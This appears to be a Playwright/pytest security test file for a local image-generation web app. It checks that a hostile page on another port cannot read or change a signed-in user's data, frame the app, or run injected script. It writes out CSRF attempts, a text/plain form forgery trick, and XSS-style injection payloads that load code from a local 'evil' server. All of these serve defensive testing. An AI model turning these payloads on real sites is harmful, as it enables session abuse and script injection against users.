"""A page of somebody else, on another port of the same machine, against a person who is signed in.

To a browser that is the same site, so the cookie goes along even though it is SameSite=Strict: it
is the server that has to refuse.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from . import rig

if TYPE_CHECKING:
    from playwright.sync_api import Browser, BrowserContext

FETCHES = """async ([url, csrf]) => {
  const found = {};
  const attempt = async (name, path, options) => {
    try {
      const answer = await fetch(url + path, {credentials: 'include', ...options});
      found[name] = answer.type === 'opaque' ? 'unreadable' : await answer.text();
    } catch { found[name] = 'blocked'; }
  };
  const body = JSON.stringify({model: 'gpt-image-1', prompt: 'stolen', quality: 'low'});
  const simple = {method: 'POST', mode: 'no-cors', body};
  await attempt('read session', '/api/session', {});
  await attempt('read keys', '/api/keys', {});
  await attempt('read gallery', '/api/pictures', {mode: 'no-cors'});
  await attempt('draw', '/v1/images/generations', simple);
  await attempt('make a key', '/api/keys', simple);
  await attempt('sign out', '/api/logout', simple);
  await attempt('with the token', '/api/keys', {
    method: 'POST', body: '{"name": "mine"}', headers: {'x-smalto-csrf': csrf},
  });
  return found;
}"""
FORM = """([url]) => {
  document.body.innerHTML = `<form method=post enctype="text/plain" action="${url}/api/logout">
    <input name='{"x":"' value='"}'></form>`;
  document.forms[0].submit();
}"""
EMBED = """([url]) => new Promise((done) => {
  const image = new Image();
  image.onload = () => done('seen');
  image.onerror = () => done('refused');
  image.src = url + '/api/pictures/1/thumb';
})"""
DRAW = """async (csrf) => {
  const headers = {'x-smalto-csrf': csrf, 'idempotency-key': 'one'};
  const fields = {operation: 'generation', model: 'gpt-image-1', prompt: 'a fox', quality: 'low'};
  const body = JSON.stringify(fields);
  let run = await (await fetch('/api/runs', {method: 'POST', headers, body})).json();
  for (let tries = 0; run.state !== 'done' && tries < 100; tries++) {
    await new Promise((go) => setTimeout(go, 100));
    run = await (await fetch('/api/runs/' + run.id)).json();
  }
  return run.images[0].picture.id;
}"""
INJECTED = """async (evil) => {
  const found = {};
  const script = document.createElement('script');
  script.textContent = 'window.inline = true';
  document.body.append(script);
  found.inline = window.inline === true;
  document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.handler = true">');
  const style = document.createElement('style');
  style.textContent = 'body { --injected: yes }';
  document.head.append(style);
  found.style = getComputedStyle(document.body).getPropertyValue('--injected') !== '';
  const load = (tag, address) => new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done(true);
    element.onerror = () => done(false);
    setTimeout(() => done(false), 2000);
    element.src = address;
    document.body.append(element);
  });
  found.script = await load('script', evil + '/evil.js');
  found.image = await load('img', evil + '/evil.png');
  try { await fetch(evil); found.fetch = true; } catch { found.fetch = false; }
  try { found.evaluated = Boolean(new Function('return 1')()); } catch { found.evaluated = false; }
  found.handler = window.handler === true;
  return found;
}"""


@pytest.fixture
def evil(tmp_path: Path) -> Iterator[str]:
    folder = tmp_path / "evil"
    folder.mkdir()
    (folder / "index.html").write_text("<!doctype html><title>evil</title><body></body>")
    (folder / "evil.js").write_text("window.evil = true")

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(folder)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def victim(browser: Browser, tmp_path: Path) -> Iterator[tuple[rig.Playground, BrowserContext]]:
    with rig.serving(tmp_path / "victim", "--engine", "fake") as running:
        running.own()
        context = rig.context_of(browser, running)
        yield running, context
        context.close()


def test_another_origin_neither_reads_nor_changes_anything(
    victim: tuple[rig.Playground, BrowserContext], evil: str
) -> None:
    playground, context = victim
    own = context.new_page()
    own.goto(playground.url)
    assert own.evaluate(DRAW, playground.csrf) == 1
    assert own.evaluate(EMBED, [playground.url]) == "seen"
    page = context.new_page()
    page.goto(evil)
    found = page.evaluate(FETCHES, [playground.url, playground.csrf])
    for name in ("read session", "read keys", "with the token"):
        assert found[name] == "blocked", name
    assert page.evaluate(EMBED, [playground.url]) == "refused"
    page.evaluate(FORM, [playground.url])
    page.wait_for_url(f"{playground.url}/api/logout")
    assert "cross_site" in page.content()
    assert playground.call("GET", "/api/session")["state"] == "signed_in"
    assert [key["name"] for key in playground.call("GET", "/api/keys")["keys"]] == ["first"]
    assert playground.call("GET", "/api/usage")["total"]["requests"] == 1


def test_nobody_may_frame_the_page(
    victim: tuple[rig.Playground, BrowserContext], evil: str
) -> None:
    playground, context = victim
    page = context.new_page()
    page.goto(evil)
    page.evaluate("(url) => { document.body.innerHTML = `<iframe src='${url}'>` }", playground.url)
    page.wait_for_timeout(500)
    (frame,) = (frame for frame in page.frames if frame is not page.main_frame)
    assert frame.locator("#root").count() == 0


def test_what_gets_into_the_page_does_not_run(
    victim: tuple[rig.Playground, BrowserContext], evil: str
) -> None:
    playground, context = victim
    page = context.new_page()
    page.goto(playground.url)
    page.wait_for_selector("h1", state="attached")
    assert page.evaluate(INJECTED, evil) == dict.fromkeys(
        ("inline", "handler", "style", "script", "image", "fetch", "evaluated"), False
    )
    assert page.evaluate("document.cookie") == "", "HttpOnly"
